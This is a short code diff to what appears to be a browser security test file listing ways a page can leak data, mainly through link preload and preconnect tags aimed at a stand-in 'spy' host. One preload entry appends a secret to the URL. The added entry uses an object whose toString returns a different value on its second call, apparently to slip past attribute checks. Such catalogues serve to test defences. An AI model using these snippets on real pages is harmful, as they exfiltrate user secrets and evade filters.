@@ -17,6 +17,10 @@ export const WAYS_OUT: Record<string, (to: string) => { markup?: string; script?
   preload: () => ({ script: `add('link', { rel: 'preload', as: 'image', href: spy + '?d=' + secret })` }),
   preconnect: () => ({ script: `add('link', { rel: 'preconnect', href: spy })` }),
   'preconnect in the page': (to) => ({ markup: `<link rel="preconnect" href="${to}">` }),
+  'preconnect by an object that spells itself twice': () => ({
+    script: `const one = add('link', { rel: 'x', href: spy }); let asked = 0;
+      one.setAttribute('rel', { toString: () => (asked++ === 0 ? 'x' : 'preconnect') })`,
+  }),
   'preconnect by attribute': () => ({
     script: `const one = add('link', { rel: 'x', href: spy }); one.setAttribute('rel', 'preconnect')`,
   }),
